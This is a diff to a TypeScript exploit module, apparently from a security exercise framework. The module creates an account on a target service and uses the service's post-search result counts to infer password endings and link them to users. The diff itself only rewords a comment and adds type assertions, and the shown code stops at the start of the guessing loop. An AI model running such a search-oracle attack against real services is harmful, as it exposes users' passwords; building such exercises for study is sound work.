@@ -2,8 +2,8 @@ import { randomUUID } from 'node:crypto';
 import { exploit } from '#attack';
 
 /**
- * Finds out which passwords there are by their ends, which all drafts share, and then whose they are. With `fetch`, and with half of the
- * questions: a search for one of several digits is not possible, but each digit is only tried until one fits.
+ * Finds out which passwords there are, from their ends, which are followed by the same words in all drafts, and then whose they are. With
+ * `fetch`.
  */
 export default exploit(async ({ target: { url }, victim }) => {
   const body = JSON.stringify({ email: `${randomUUID()}@example.net` });
@@ -12,10 +12,10 @@ export default exploit(async ({ target: { url }, victim }) => {
     headers: { 'content-type': 'application/json' },
     body,
   });
-  const { key } = await account.json();
+  const { key } = (await account.json()) as { key: string };
   const total = async (words: string): Promise<number> => {
     const response = await fetch(`${url}/posts?q=${encodeURIComponent(words)}`, { headers: { 'x-account-key': key } });
-    return (await response.json()).total;
+    return ((await response.json()) as { total: number }).total;
   };
 
   let endings = [''];
